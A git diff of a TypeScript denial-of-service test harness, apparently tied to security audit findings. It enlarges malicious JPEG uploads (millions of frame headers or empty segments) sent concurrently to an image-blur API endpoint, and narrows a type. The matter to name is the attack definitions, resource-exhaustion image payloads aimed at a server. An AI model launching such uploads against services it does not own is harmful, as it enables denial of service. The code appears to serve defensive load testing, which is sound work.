@@ -129,8 +129,8 @@ export const ATTACKS: Readonly<Record<string, Attack>> = {
   },
   "apng-webp": uploads("2-H3", "APNG of noise, 4 × 12.5 MP", { query: "format=webp" }),
   "png-webp": uploads("2-H3", "PNG of noise, 25 MP", { query: "format=webp" }),
-  "jpeg-frames": uploads("2-H4", "JPEG of 800,000 frame headers"),
-  "jpeg-segments": uploads("2-H4", "JPEG of 2,600,000 empty segments"),
+  "jpeg-frames": uploads("2-H4", "JPEG of 1,600,000 frame headers"),
+  "jpeg-segments": uploads("2-H4", "JPEG of 5,200,000 empty segments"),
   "huffman-tables": uploads("2-M1", "PNG of 790,000 Huffman tables", { clients: 4 }),
   "cheap-requests": {
     finding: "2-M2",
@@ -219,13 +219,13 @@ function uploadsInChunks(chunks: Chunks): Attack {
   };
 }
 
-function uploads(finding: string, file: string, { clients = 1, query = "" } = {}): Attack {
+function uploads(finding: string, file: keyof typeof WORST_FILES, { clients = 1, query = "" } = {}): Attack {
   return {
     finding,
     summary: `${clients === 1 ? "a client uploads" : `${clients} clients upload`} the file "${file}"`,
     perform: async (target) => {
       const path = () => `/api/v2/filter/blur?strength=1&${query}`;
-      return await press({ clients, atOnce: 2, path, body: await WORST_FILES[file]!() })(target);
+      return await press({ clients, atOnce: 2, path, body: await WORST_FILES[file]() })(target);
     },
   };
 }
